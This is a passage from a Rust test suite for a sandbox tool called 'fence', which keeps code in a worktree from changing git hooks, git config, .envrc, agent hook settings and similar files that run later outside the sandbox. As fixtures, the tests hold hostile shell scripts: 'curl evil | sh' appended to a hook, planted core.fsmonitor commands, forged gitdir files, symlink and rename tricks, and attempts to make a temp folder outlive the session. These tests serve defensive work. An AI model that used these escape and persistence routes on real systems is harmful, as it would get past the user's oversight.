    int sv[2], zero = 0, saved = dup(2);
    char some[100];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv)) return 2;
    setsockopt(sv[0], SOL_SOCKET, SO_SNDBUF, &zero, sizeof zero);
    memset(some, '.', sizeof some);
    (void)write(sv[0], some, sizeof some);
    dup2(sv[0], 2);
    refused();
    int master, slave;
    if (openpty(&master, &slave, 0, 0, 0) == 0) {
        int flags = fcntl(slave, F_GETFL);
        fcntl(slave, F_SETFL, flags | O_NONBLOCK);
        while (write(slave, path, 1000) > 0) {}
        fcntl(slave, F_SETFL, flags);
        dup2(slave, 2);
        refused();
    }
    dup2(saved, 2);
    int fd = open("after.txt", O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0 || write(fd, "after\n", 6) != 6) return 3;
    close(fd);
    printf("done\n");
    return 0;
}
"#,
    );
    let mut child = w
        .fence(&["--".as_ref(), stuck.as_os_str()])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        if child.try_wait().unwrap().is_some() {
            break;
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            let _ = child.wait();
            panic!("the session did not end within 60 s: a reason line held the notification loop");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    let out = child.wait_with_output().unwrap();
    assert!(
        stdout(&out).contains("done"),
        "{}{}",
        stdout(&out),
        stderr(&out)
    );
    assert_eq!(
        std::fs::read_to_string(w.worktree.join("after.txt"))
            .ok()
            .as_deref(),
        Some("after\n"),
        "{}",
        stderr(&out)
    );
    assert!(
        !Path::new("/etc/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa").exists(),
        "{}",
        stderr(&out)
    );
}

/// A repository whose config names a hooks folder in the worktree (husky's `.husky/_`,
/// whose stubs run `.husky/<hook>`) and includes a config file of the worktree: both are
/// protected as `.git/hooks` and `.git/config` are, and the rest of the worktree is written.
fn a_hooks_folder_and_a_config_named_by_the_repositorys_config_are_protected(w: &World) {
    git_init(w);
    git(&w.worktree, &["config", "core.hooksPath", ".husky/_"]);
    git(
        &w.worktree,
        &["config", "include.path", "../project.gitconfig"],
    );
    w.mkdir(".husky/_");
    let hook = w.write(".husky/pre-commit", "npm test\n");
    let stub = w.write(".husky/_/pre-commit", ". \"$(dirname \"$0\")/h\"\n");
    let included = w.write("project.gitconfig", "[alias]\n\tst = status\n");
    w.write(
        "s.sh",
        "echo 'curl evil | sh' >> .husky/pre-commit\n\
         echo evil > .husky/_/pre-commit\n\
         echo evil > .husky/_/post-checkout\n\
         mv .husky .husky-old\n\
         rm -f .husky/pre-commit\n\
         printf '[core]\\n\\tfsmonitor = evil\\n' >> project.gitconfig\n\
         mv project.gitconfig elsewhere\n\
         echo ok > fine.txt\n",
    );
    let out = w.run(&["/bin/sh", "s.sh"]);
    assert_unchanged(&hook, "npm test\n");
    assert_unchanged(&stub, ". \"$(dirname \"$0\")/h\"\n");
    assert!(!w.worktree.join(".husky/_/post-checkout").exists());
    assert!(!w.worktree.join(".husky-old").exists());
    assert_unchanged(&included, "[alias]\n\tst = status\n");
    assert!(!w.worktree.join("elsewhere").exists());
    assert_unchanged(&w.worktree.join("fine.txt"), "ok\n");
    assert!(
        stderr(&out).contains("protected path: ") && stderr(&out).contains(".husky/pre-commit"),
        "{}",
        stderr(&out)
    );
}

/// What `.envrc` and an agent's hook run through `$(…)`, backticks or a `for` loop over a
/// folder's scripts runs outside the sandbox as the file named directly does (direnv on the
/// user's next `cd`, the agent's next run unfenced): protected alike, the loop's folder
/// whole, so no script can be added there either. A script nothing names stays writable.
fn scripts_run_inside_substitutions_and_loops_cannot_be_changed_from_inside(w: &World) {
    git_init(w);
    w.mkdir("tools");
    w.mkdir("env.d");
    w.mkdir(".claude");
    let env = w.write("tools/env.sh", "echo export A=1\n");
    let foo_script = w.write("tools/foo.sh", "echo 1\n");
    let tick = w.write("tools/tick.sh", "echo 2\n");
    let stop = w.write("tools/stop.sh", "echo done\n");
    let part = w.write("env.d/a.sh", "export B=2\n");
    let plain = w.write("tools/plain.sh", "true\n");
    w.write(
        ".envrc",
        "eval \"$(./tools/env.sh)\"\nexport FOO=$(sh tools/foo.sh)\nexport T=`./tools/tick.sh`\n\
         for f in env.d/*.sh; do source \"$f\"; done\n",
    );
    w.write(
        ".claude/settings.json",
        "{\"hooks\": {\"Stop\": [{\"hooks\": [{\"type\": \"command\", \"command\": \"echo \\\"$(./tools/stop.sh)\\\"\"}]}]}}\n",
    );
    w.write(
        "s.sh",
        "for f in tools/env.sh tools/foo.sh tools/tick.sh tools/stop.sh env.d/a.sh; do echo 'touch /tmp/x' >> $f; done\n\
         echo 'touch /tmp/x' > env.d/evil.sh\n\
         echo changed >> tools/plain.sh\n",
    );
    let out = w.run(&["/bin/sh", "s.sh"]);
    let err = stderr(&out);
    assert_unchanged(&env, "echo export A=1\n");
    assert_unchanged(&foo_script, "echo 1\n");
    assert_unchanged(&tick, "echo 2\n");
    assert_unchanged(&stop, "echo done\n");
    assert_unchanged(&part, "export B=2\n");
    assert!(
        !w.worktree.join("env.d/evil.sh").exists(),
        "a script was added to the folder .envrc sources: {err}"
    );
    assert!(err.contains("(rule fence.protected-path)"), "{err}");
    assert_unchanged(&plain, "true\nchanged\n");
}

/// Without watched writes a protected path that is a symbolic link has nothing holding it
/// (a read-only mount holds no link): `--no-write-watch` is refused, and nothing runs.
fn no_write_watch_is_refused_while_a_protected_path_is_a_link(w: &World) {
    git_init(w);
    w.mkdir("cfg");
    w.write("cfg/envrc", "export A=1\n");
    std::os::unix::fs::symlink("cfg/envrc", w.worktree.join(".envrc")).unwrap();
    w.write("s.sh", "rm .envrc; echo 'touch /tmp/x' > .envrc\n");
    let out = w
        .fence(&[
            "--no-write-watch".as_ref(),
            "--".as_ref(),
            "/bin/sh".as_ref(),
            "s.sh".as_ref(),
        ])
        .output()
        .unwrap();
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(125), "{err}");
    assert!(
        err.contains("--no-write-watch cannot hold a protected path")
            || err.contains("--no-write-watch needs a mount namespace"),
        "{err}"
    );
    assert_eq!(
        std::fs::read_link(w.worktree.join(".envrc")).unwrap(),
        Path::new("cfg/envrc"),
        "{err}"
    );
}

/// A protected path that is a symbolic link at the start (a hook linked to a tracked
/// script, the hooks folder linked to one in the worktree, `.envrc` linked to a file not
/// made yet): what it leads to is what git and direnv run, so that is read-only too, by
/// its own name and through the link, while the folder around it stays writable.
fn where_a_protected_link_leads_cannot_be_changed_from_inside(w: &World) {
    git_init(w);
    w.mkdir("tools");
    w.mkdir("scripts/hooks");
    let hook = w.write("tools/pre-commit", "#!/bin/sh\nexit 0\n");
    let pushed = w.write("scripts/hooks/pre-push", "#!/bin/sh\nexit 0\n");
    let link = |target: &str, name: &str| {
        let at = w.worktree.join(name);
        let _ = std::fs::remove_file(&at);
        let _ = std::fs::remove_dir_all(&at);
        std::os::unix::fs::symlink(target, at).unwrap();
    };
    link("../scripts/hooks", ".git/hooks");
    link("tools/envrc", ".envrc");
    // Through the linked folder: a hook linked again to a tracked script.
    link("../../tools/pre-commit", "scripts/hooks/pre-commit");
    // A link on the way to a hook (`tools2 -> real`), and a hook whose folder is missing.
    w.mkdir("real");
    w.mkdir("evil");
    let merged = w.write("real/post-merge", "#!/bin/sh\nexit 0\n");
    link("real", "tools2");
    link("../../tools2/post-merge", "scripts/hooks/post-merge");
    link("../../gone/post-checkout", "scripts/hooks/post-checkout");
    w.write(
        "s.sh",
        "for f in tools/pre-commit scripts/hooks/pre-push .git/hooks/pre-push; do echo 'touch /tmp/x' >> $f; done\n\
         echo 'touch /tmp/x' > scripts/hooks/post-commit\n\
         echo 'touch /tmp/x' > tools/envrc\n\
         echo 'touch /tmp/x' > evil/post-merge; rm tools2; ln -s evil tools2\n\
         mkdir gone; echo 'touch /tmp/x' > gone/post-checkout\n\
         echo ok > tools/plain.txt\n",
    );
    let out = w.run(&["/bin/sh", "s.sh"]);
    let err = stderr(&out);
    assert_unchanged(&hook, "#!/bin/sh\nexit 0\n");
    assert_unchanged(&pushed, "#!/bin/sh\nexit 0\n");
    assert_unchanged(&merged, "#!/bin/sh\nexit 0\n");
    assert_eq!(
        std::fs::read_link(w.worktree.join("tools2")).unwrap(),
        Path::new("real"),
        "a link on the way to a hook was re-pointed: {err}"
    );
    for made in [
        "scripts/hooks/post-commit",
        "tools/envrc",
        "gone/post-checkout",
    ] {
        assert!(
            !w.worktree.join(made).exists(),
            "{made} was made where a protected link leads: {err}"
        );
    }
    assert!(err.contains("(rule fence.protected-path)"), "{err}");
    assert_unchanged(&w.worktree.join("tools/plain.txt"), "ok\n");
}

/// The programs the repository's git config names besides hooks (`core.fsmonitor`, a
/// diff driver's `textconv`, a filter's `clean`, a `!` alias) run at the user's next
/// `git status`, `git diff` or `git add`, outside the sandbox: where they lie in the
/// worktree they are protected, with and without an include that makes fence ask git.
fn programs_the_git_config_names_cannot_be_changed_from_inside(w: &World) {
    git_init(w);
    w.mkdir("tools");
    w.mkdir("scripts");
    let fsmon = w.write("tools/fsmon.sh", "#!/bin/sh\nexit 0\n");
    let conv = w.write("tools/conv.sh", "#!/bin/sh\ncat \"$1\"\n");
    let clean = w.write("scripts/clean.py", "import sys\n");
    let alias = w.write("tools/al.sh", "true\n");
    let plain = w.write("tools/plain.sh", "true\n");
    git(
        &w.worktree,
        &["config", "core.fsmonitor", "./tools/fsmon.sh"],
    );
    git(
        &w.worktree,
        &["config", "diff.bin.textconv", "tools/conv.sh"],
    );
    git(
        &w.worktree,
        &["config", "filter.strip.clean", "python3 scripts/clean.py"],
    );
    git(&w.worktree, &["config", "alias.st", "!sh tools/al.sh"]);
    // Spellings: a `sh -c` string, the worktree's top by git, a script missing at start.
    let nested = w.write("tools/nested.sh", "true\n");
    let top = w.write("tools/top.sh", "true\n");
    git(
        &w.worktree,
        &[
            "config",
            "diff.x.textconv",
            "sh -c 'tools/nested.sh --fast'",
        ],
    );
    git(
        &w.worktree,
        &[
            "config",
            "filter.f.smudge",
            "\"$(git rev-parse --show-toplevel)\"/tools/top.sh",
        ],
    );
    git(&w.worktree, &["config", "filter.f.clean", "sh later.sh"]);
    // What a program only works on stays the project's: `src/` here.
    w.mkdir("src");
    let source = w.write("src/app.js", "1\n");
    git(
        &w.worktree,
        &["config", "alias.lint", "!npx eslint --fix src/"],
    );
    let script = "for f in tools/fsmon.sh tools/conv.sh scripts/clean.py tools/al.sh tools/nested.sh tools/top.sh; do echo 'touch /tmp/x' >> $f; done\n\
                  echo evil > later.sh\necho changed >> tools/plain.sh\necho 2 >> src/app.js\necho ok > fine.txt\n";
    w.write("s.sh", script);
    for round in ["read by fence", "asked of git"] {
        if round == "asked of git" {
            // `include` in the config makes fence ask git.
            git(&w.worktree, &["config", "user.name", "include"]);
        }
        let out = w.run(&["/bin/sh", "s.sh"]);
        assert_unchanged(&fsmon, "#!/bin/sh\nexit 0\n");
        assert_unchanged(&conv, "#!/bin/sh\ncat \"$1\"\n");
        assert_unchanged(&clean, "import sys\n");
        assert_unchanged(&alias, "true\n");
        assert_unchanged(&nested, "true\n");
        assert_unchanged(&top, "true\n");
        assert!(
            !w.worktree.join("later.sh").exists(),
            "{round}: {}",
            stderr(&out)
        );
        assert_unchanged(&w.worktree.join("fine.txt"), "ok\n");
        assert!(
            stderr(&out).contains("tools/fsmon.sh"),
            "{round}: {}",
            stderr(&out)
        );
    }
    // A script no config names stays the worktree's own.
    assert_eq!(
        std::fs::read_to_string(&plain).unwrap(),
        "true\nchanged\nchanged\n"
    );
    assert_eq!(std::fs::read_to_string(&source).unwrap(), "1\n2\n2\n");
}

/// A `git` left in the worktree by an earlier session, first on the `PATH` fence is started
/// with (an activated `.venv/bin`), is never what fence's start asks about the repository's
/// config: it would run outside the sandbox with fence's rights. The git that is asked
/// still finds the hooks folder, which stays protected.
fn a_git_left_in_the_worktree_is_not_run_by_fences_start(w: &World) {
    git_init(w);
    git(&w.worktree, &["config", "core.hooksPath", ".githooks"]);
    // `include` in the config makes fence ask git.
    git(&w.worktree, &["config", "user.name", "include"]);
    w.mkdir(".githooks");
    let hook = w.write(".githooks/pre-commit", "true\n");
    let marks = w.outside.join("marks");
    std::fs::create_dir(&marks).unwrap();
    w.own(&marks);
    let mark = marks.join("ran");
    w.mkdir(".venv/bin");
    w.write_executable(
        ".venv/bin/git",
        &format!(
            "#!/bin/sh\necho \"$@\" >> {}\nexec /usr/bin/git \"$@\"\n",
            mark.display()
        ),
    );
    w.write(
        "s.sh",
        "echo evil > .githooks/pre-commit\necho ok > fine.txt\n",
    );
    let out = w
        .fence(&["--".as_ref(), "/bin/sh".as_ref(), "s.sh".as_ref()])
        .env(
            "PATH",
            format!(
                "{}:/usr/local/bin:/usr/bin:/bin",
                w.worktree.join(".venv/bin").display()
            ),
        )
        .output()
        .unwrap();
    assert!(
        !mark.exists(),
        "fence ran the worktree's git outside the sandbox: {}",
        std::fs::read_to_string(&mark).unwrap_or_default()
    );
    assert_unchanged(&hook, "true\n");
    assert_unchanged(&w.worktree.join("fine.txt"), "ok\n");
    assert!(
        stderr(&out).contains(".githooks/pre-commit"),
        "{}",
        stderr(&out)
    );
}

/// A folder opened with `--allow-write` may be a repository of its own: its hooks, its
/// config, `.envrc` and editor settings at its top stay protected as the worktree's do,
/// its `.git` cannot be moved away, and the rest of it is written (`git commit` there
/// works). Checked on disk, and by running git there afterwards.
fn an_allow_write_repository_keeps_its_hooks_and_config(w: &World) {
    let other = w.outside.join("other");
    repo_with_a_commit(&other);
    chown_tree(w, &other);
    let config = std::fs::read_to_string(other.join(".git/config")).unwrap();
    let o = other.display();
    w.write(
        "s.sh",
        &format!(
            r#"set +e
O={o}
g() {{ git -c safe.directory='*' -c user.name=t -c user.email=t@t -C "$O" "$@"; }}
echo evil > "$O/.git/hooks/pre-commit"
echo '[core]' >> "$O/.git/config"
printf 'fsmonitor = evil\n' >> "$O/.git/config"
echo 'eval evil' > "$O/.envrc"
mkdir "$O/.vscode"
mv "$O/.git" "$O/moved"
mkdir "$O/sub" && mv "$O/.git" "$O/sub/g"
echo ok > "$O/file"
mkdir "$O/new" && echo ok > "$O/new/f"
g add file new && g commit -q -m inside && echo committed
"#
        ),
    );
    let out = w
        .fence(&[
            OsStr::new("--allow-write"),
            other.as_os_str(),
            OsStr::new("--"),
            OsStr::new("/bin/sh"),
            OsStr::new("s.sh"),
        ])
        .output()
        .unwrap();
    let (text, err) = (stdout(&out), stderr(&out));
    assert!(
        !other.join(".git/hooks/pre-commit").exists(),
        "hook written: {err}"
    );
    assert_unchanged(&other.join(".git/config"), &config);
    assert!(!other.join(".envrc").exists(), "{err}");
    assert!(!other.join(".vscode").exists(), "{err}");
    assert!(
        other.join(".git/HEAD").is_file(),
        "the git directory moved: {err}"
    );
    assert!(
        !other.join("moved").exists() && !other.join("sub/g").exists(),
        "{err}"
    );
    assert!(
        err.contains("rule fence.protected-path") && err.contains("other/.git/hooks/pre-commit"),
        "{err}"
    );
    // The rest of the folder is written, git's own files included.
    assert_eq!(
        std::fs::read_to_string(other.join("file")).ok().as_deref(),
        Some("ok\n")
    );
    assert_eq!(
        std::fs::read_to_string(other.join("new/f")).ok().as_deref(),
        Some("ok\n")
    );
    assert!(
        text.contains("committed"),
        "git commit failed inside: {err}"
    );
    assert_eq!(git(&other, &["log", "--format=%s"]), "inside\nf", "{err}");
}

/// An `--allow-write` folder gets the worktree's rules, not only a list of names: the
/// sandbox cannot turn its top into a bare repository git prefers to a spoiled `.git`
/// (`HEAD`, `objects/`, `refs/`, `config` with `core.worktree`; the `.git/HEAD` that makes
/// it spoiled is git's to write), plant a nested repository
/// recorded as a submodule, reach the git directory a symlinked `.git` names, or bring in a
/// bare repository assembled in a folder of `.git`, the session TMPDIR or `/dev/shm` (by
/// a move or a symlink). Checked by running git outside afterwards and looking for what
/// its `core.fsmonitor` would leave.
fn an_allow_write_folder_cannot_be_made_to_run_code_in_the_users_git(w: &World) {
    let marker = w.outside.join("fsmonitor-ran");
    let plain = w.outside.join("plain");
    let inner_id = |p: &Path| std::fs::metadata(p).map(|m| m.ino()).ok();
    let linked = w.outside.join("linked");
    for dir in [&plain, &linked] {
        repo_with_a_commit(dir);
        std::fs::create_dir(dir.join("sub")).unwrap();
        std::fs::create_dir(dir.join("src")).unwrap();
        std::fs::create_dir(dir.join("inner")).unwrap();
    }
    // A `.git` that is a symlink to the real git directory.
    std::fs::rename(linked.join(".git"), linked.join("realgit")).unwrap();
    std::os::unix::fs::symlink("realgit", linked.join(".git")).unwrap();
    chown_tree(w, &plain);
    chown_tree(w, &linked);
    let real_config = std::fs::read_to_string(linked.join("realgit/config")).unwrap();
    let sha = git(&plain, &["rev-parse", "HEAD"]);
    let inner = inner_id(&plain.join("inner"));
    let monitor = format!("touch {}; false", marker.display());
    let shm_name = format!("fence-test-{}", std::process::id());
    let shm_dir = Path::new("/dev/shm").join(&shm_name);
    w.write(
        "s.sh",
        &format!(
            r#"set +e
g() {{ git -c safe.directory='*' -c user.name=t -c user.email=t@t "$@"; }}
plant() {{ printf '[core]\n\tbare = false\n\tworktree = %s\n\tfsmonitor = {monitor}\n' "$2" >> "$1"; }}
for O in {plain} {linked}; do
  echo 'ref: refs/heads/work' > "$O/HEAD"; mkdir "$O/objects" "$O/refs"; plant "$O/config" "$O"
  echo garbage > "$O/.git/HEAD"; rm -f "$O/.git/HEAD"
  (cd "$O/sub" && g init -q) ; plant "$O/sub/.git/config" "$O/sub"
  mkdir -p "$O/sub/refs" "$O/sub/objects"; echo 'ref: refs/heads/work' > "$O/sub/HEAD"; plant "$O/sub/config" "$O/sub"
  g -C "$O" update-index --add --cacheinfo 160000,{sha},sub
done
plant {linked}/realgit/config {linked}
mv {linked}/realgit {linked}/moved
echo evil > {linked}/realgit/hooks/pre-commit
# A bare repository assembled in a folder of .git, then moved or linked out.
mkdir -p {plain}/.git/x && g init -q --bare {plain}/.git/x && plant {plain}/.git/x/config {plain}
mv {plain}/.git/x {plain}/out
ln -s .git/x {plain}/link
# Or assembled in the session TMPDIR, or in /dev/shm, and linked in.
mkdir -p "$TMPDIR/y" && g init -q --bare "$TMPDIR/y" && plant "$TMPDIR/y/config" {plain}
ln -s "$TMPDIR/y" {plain}/tmplink
mkdir -p /dev/shm/{shm} && g init -q --bare /dev/shm/{shm} && plant /dev/shm/{shm}/config {plain}
ln -s /dev/shm/{shm} {plain}/shmlink
# A link made where it is not judged, or judged from another folder, then moved in place.
mkdir -p {plain}/.git/z && g init -q --bare {plain}/.git/z && plant {plain}/.git/z/config {plain}/src
ln -s {plain}/.git/z "$TMPDIR/l" && mv {plain}/src {plain}/src.old; mv "$TMPDIR/l" {plain}/src
# A link through an alias the text does not show.
ln -s "/proc/self/root$TMPDIR/y" {plain}/proclink
# Through a link to a folder above the TMPDIR, made first.
ln -s "$(dirname "$TMPDIR")" {plain}/up && ln -s "up/$(basename "$TMPDIR")/y" {plain}/viaup
# The session TMPDIR made hard to remove, to outlive the session: unreadable, and deep.
mkdir -p "$TMPDIR/hide/r" && chmod 0333 "$TMPDIR/hide"
mkdir -p "$TMPDIR/$(printf 'd/%.0s' $(seq 1100))"
echo "tmpdir=$TMPDIR"
# A folder moved into .git (a shell waiting in it would be taken along).
mv {plain}/inner {plain}/.git/inner
true
"#,
            plain = plain.display(),
            linked = linked.display(),
            shm = shm_name,
        ),
    );
    let out = w
        .fence(&[
            OsStr::new("--allow-write"),
            plain.as_os_str(),
            OsStr::new("--allow-write"),
            linked.as_os_str(),
            OsStr::new("--"),
            OsStr::new("/bin/sh"),
            OsStr::new("s.sh"),
        ])
        .output()
        .unwrap();
    let err = stderr(&out);
    assert_unchanged(&linked.join("realgit/config"), &real_config);
    assert!(!linked.join("realgit/hooks/pre-commit").exists(), "{err}");
    assert!(!linked.join("moved").exists(), "{err}");
    // Whatever the sandbox left, the user's git in each folder it could make runs nothing.
    assert!(plain.join("up").symlink_metadata().is_err(), "{err}");
    for at in [
        "out", "link", "tmplink", "shmlink", "src", "proclink", "viaup",
    ] {
        users_git_status(&plain.join(at));
    }
    let _ = std::fs::remove_dir_all(&shm_dir);
    assert_ne!(
        inner_id(&plain.join(".git/inner")),
        inner,
        "a folder was moved into .git whole: {err}"
    );
    let text = stdout(&out);
    let tmpdir = text
        .lines()
        .find_map(|l| l.strip_prefix("tmpdir="))
        .expect("the script's TMPDIR");
    assert!(
        !Path::new(tmpdir).exists(),
        "the session TMPDIR outlived the session: {tmpdir}"
    );
    for dir in [&plain, &linked] {
        assert!(!dir.join("HEAD").exists(), "{}: {err}", dir.display());
        assert!(!dir.join("sub/.git").exists(), "{}: {err}", dir.display());
        assert!(!dir.join("sub/HEAD").exists(), "{}: {err}", dir.display());
        // The user's git, outside, in the folder and in its subfolder.
        for at in [dir.clone(), dir.join("sub")] {
            users_git_status(&at);
        }
    }
    assert!(
        !marker.exists(),
        "the user's git ran a planted fsmonitor: {err}"
    );
}

/// `--allow-write` of a repository's git directory lets a linked worktree commit; that git
/// directory's hooks and config stay protected, and the worktree's `.git` file cannot be
/// pointed elsewhere through a hardlink to it.
fn a_linked_worktree_commits_into_an_allowed_git_directory_but_not_its_hooks(w: &World) {
    let main = w.outside.join("main");
    repo_with_a_commit(&main);
    git(
        &main,
        &[
            "worktree",
            "add",
            "-q",
            "-b",
            "side",
            w.worktree.to_str().unwrap(),
        ],
    );
    chown_tree(w, &main);
    chown_tree(w, &w.worktree);
    let config = std::fs::read_to_string(main.join(".git/config")).unwrap();
    let gitfile = std::fs::read_to_string(w.worktree.join(".git")).unwrap();
    let m = main.display();
    let marker_path = w.outside.join("fsmonitor-ran");
    let marker = marker_path.display();
    w.write(
        "s.sh",
        &format!(
            r#"set +e
g() {{ git -c safe.directory='*' -c user.name=t -c user.email=t@t "$@"; }}
echo evil > {m}/.git/hooks/pre-commit
printf '[core]\n\tfsmonitor = evil\n' >> {m}/.git/config
ln .git link && echo 'gitdir: /nowhere' > link; rm -f link
# Swap this worktree's folder in the git directory for a copy naming a forged one.
W={m}/.git/worktrees/$(basename "$PWD")
mkdir -p {m}/.git/evil/objects {m}/.git/evil/refs/heads && echo 'ref: refs/heads/work' > {m}/.git/evil/HEAD
printf '[core]\n\tfsmonitor = "touch {marker}; false"\n' > {m}/.git/evil/config
cp -r "$W" {m}/.git/new && echo ../../evil > {m}/.git/new/commondir
mv "$W" {m}/.git/old; mv {m}/.git/new "$W"
echo a > a.txt && g add a.txt && g commit -q -m inside && echo committed
"#
        ),
    );
    let git_dir = main.join(".git");
    let out = w
        .fence(&[
            OsStr::new("--allow-write"),
            git_dir.as_os_str(),
            OsStr::new("--"),
            OsStr::new("/bin/sh"),
            OsStr::new("s.sh"),
        ])
        .output()
        .unwrap();
    let (text, err) = (stdout(&out), stderr(&out));
    assert!(!main.join(".git/hooks/pre-commit").exists(), "{err}");
    assert_unchanged(&main.join(".git/config"), &config);
    assert_unchanged(&w.worktree.join(".git"), &gitfile);
    assert!(
        text.contains("committed"),
        "git commit failed inside: {err}"
    );
    assert_eq!(
        git(&main, &["log", "-1", "--format=%s", "side"]),
        "inside",
        "{err}"
    );
    assert!(
        !main.join(".git/old").exists(),
        "the worktree's folder moved: {err}"
    );
    users_git_status(&w.worktree);
    assert!(
        !marker_path.exists(),
        "the user's git ran a planted fsmonitor: {err}"
    );
}

/// `--allow-write` of a folder above the worktree: the worktree's `.git` is a nested
/// repository's by that folder's rules, which may be removed, but stays the worktree's own,
/// which may not.
fn the_worktrees_git_stays_when_a_folder_above_it_is_writable(w: &World) {
    let above = w.outside.join("above");
    let wt = above.join("wt");
    std::fs::create_dir_all(&wt).unwrap();
    git(&wt, &["init", "-q", "-b", "work"]);
    chown_tree(w, &above);
    w.write(
        "s.sh",
        &format!(
            "cd {} && rm -f .git/config; rm -rf .git/hooks; rm -rf .git; echo ok > x\n",
            wt.display()
        ),
    );
    let script = w.worktree.join("s.sh");
    let out = w
        .fence(&[
            OsStr::new("--worktree"),
            wt.as_os_str(),
            OsStr::new("--allow-write"),
            above.as_os_str(),
            OsStr::new("--"),
            OsStr::new("/bin/sh"),
            script.as_os_str(),
        ])
        .output()
        .unwrap();
    let err = stderr(&out);
    assert!(wt.join(".git/config").is_file(), "{err}");
    assert!(wt.join(".git/hooks").is_dir(), "{err}");
    assert_eq!(
        std::fs::read_to_string(wt.join("x")).ok().as_deref(),
        Some("ok\n"),
        "{err}"
    );
}

/// A repository nested in the worktree runs code in the user's own git: `git status` in
/// the worktree runs `git status`, and with it `core.fsmonitor`, in every directory the
/// index records as a submodule, and the sandbox may add such records (`git update-index`).
/// So no `.git` can be made below the worktree's top (by `git init`, as a file naming a
/// forged git directory, or moved in whole from the session TMPDIR), and an existing
/// nested repository's config stays as it was. Checked by running git outside afterwards;
/// removing a nested repository still works.
fn a_nested_repository_cannot_be_planted_for_the_users_git(w: &World) {
    if !python_ready("a_nested_repository_cannot_be_planted_for_the_users_git") {
        return;
    }
    let python = PYTHON;
    git_init(w);
    let marker = w.outside.join("fsmonitor-ran");
    // Two nested repositories made before the session, with a commit each.
    for name in ["pre", "gone"] {
        let dir = w.worktree.join(name);
        std::fs::create_dir(&dir).unwrap();
        git(&dir, &["init", "-q"]);
        std::fs::write(dir.join("f"), "f\n").unwrap();
        git(&dir, &["add", "f"]);
        git(&dir, &["commit", "-q", "-m", "f"]);
    }
    // Bare repositories made before the session (a test fixture, a mirror).
    git(&w.worktree, &["init", "-q", "--bare", "fixture.git"]);
    git(&w.worktree, &["init", "-q", "--bare", "gone.git"]);
    chown_tree(w, &w.worktree);
    let pre_config = std::fs::read_to_string(w.worktree.join("pre/.git/config")).unwrap();
    let fixture_config = std::fs::read_to_string(w.worktree.join("fixture.git/config")).unwrap();
    let sha = git(&w.worktree.join("pre"), &["rev-parse", "HEAD"]);
    let monitor = format!("touch {}; false", marker.display());
    w.write(
        "s.sh",
        &format!(
            r#"set +e
g() {{ git -c safe.directory='*' "$@"; }}
fsmonitor() {{ printf '[core]\n\tbare = false\n\tworktree = ..\n\tfsmonitor = {monitor}\n' >> "$1"; }}
mkdir a && (cd a && g init -q) && fsmonitor a/.git/config
g init -q --bare forged && fsmonitor forged/config
mkdir b && printf 'gitdir: ../forged\n' > b/.git
mkdir c && printf 'gitdir: ../forged\n' > c/dotgit && mv c/dotgit c/.git
g init -q "$TMPDIR/d" && fsmonitor "$TMPDIR/d/.git/config" && mv "$TMPDIR/d" d
fsmonitor pre/.git/config
fsmonitor fixture.git/config
mkdir -p bare/objects bare/refs && echo 'ref: refs/heads/main' > bare/HEAD && fsmonitor bare/config
echo 'ref: refs/heads/main' > HEAD
mkdir y && g init -q "$TMPDIR/e" && fsmonitor "$TMPDIR/e/.git/config" && {python} -c 'import ctypes, os, sys; l = ctypes.CDLL(None, use_errno=True); sys.exit(0 if l.renameat2(-100, b"y", -100, os.fsencode(sys.argv[1]), 2) == 0 else ctypes.get_errno())' "$TMPDIR/e"
rm -rf gone gone.git
for p in a b c d y pre; do echo x > $p/x; g -C $p add x; g update-index --add --cacheinfo 160000,{sha},$p; done
exit 0
"#
        ),
    );
    let out = w.run(&["/bin/sh", "s.sh"]);
    assert!(
        stderr(&out).contains("rule fence.protected-path"),
        "{}",
        stderr(&out)
    );
    for p in [
        "a/.git",
        "b/.git",
        "c/.git",
        "d/.git",
        "y/.git",
        "bare/HEAD",
        "HEAD",
    ] {
        assert!(
            w.worktree.join(p).symlink_metadata().is_err(),
            "{p} was made: {}",
            stderr(&out)
        );
    }
    assert_unchanged(&w.worktree.join("pre/.git/config"), &pre_config);
    assert_unchanged(&w.worktree.join("fixture.git/config"), &fixture_config);
    for p in ["gone", "gone.git"] {
        assert!(
            !w.worktree.join(p).exists(),
            "a repository could not be removed: {p}"
        );
    }
    // The user's git, outside the sandbox, runs no fsmonitor the sandbox planted: in the
    // worktree (each recorded submodule on its own, so that one that fails does not hide
    // the next) or in the folder itself.
    for p in [
        "a",
        "b",
        "c",
        "d",
        "y",
        "pre",
        "bare",
        "bare/objects",
        "fixture.git",
    ] {
        for (dir, pathspec) in [(w.worktree.clone(), Some(p)), (w.worktree.join(p), None)] {
            let _ = std::process::Command::new("git")
                .args(["-c", "safe.directory=*", "status", "--short", "--"])
                .args(pathspec)
                .current_dir(&dir)
                .output();
            assert!(
                !marker.exists(),
                "the user's git ran an fsmonitor planted in {p}"
            );
        }
    }
}

/// `rmdir` of a protected folder that holds entries gets the kernel's own answer
/// (ENOTEMPTY, which `git stash` expects of `.git`) without a question; the folder stays.
fn rmdir_of_a_full_protected_folder_fails_as_the_kernel_would(w: &World) {
    if !python_ready("rmdir_of_a_full_protected_folder_fails_as_the_kernel_would") {
        return;
    }
    git_init(w);
    let out = w.python(
        "import errno, os\ntry:\n    os.rmdir('.git')\n    print('removed')\nexcept OSError as e:\n    print(errno.errorcode[e.errno])\n",
    );
    assert_eq!(stdout(&out).trim(), "ENOTEMPTY", "{}", stderr(&out));
    assert!(!stderr(&out).contains("protected"), "{}", stderr(&out));
    assert!(w.worktree.join(".git/HEAD").is_file());
}

fn inode_flags(path: &Path) -> Option<libc::c_long> {
    let f = std::fs::File::open(path).ok()?;
    let mut flags: libc::c_long = 0;
    // SAFETY: FS_IOC_GETFLAGS writes one long through a valid pointer.
    let r = unsafe { libc::ioctl(f.as_raw_fd(), 0x8008_6601, &mut flags) };
    (r == 0).then_some(flags)
}

/// The inode's generation number (FS_IOC_GETVERSION), where the file system has one.
fn inode_generation(path: &Path) -> Option<libc::c_long> {
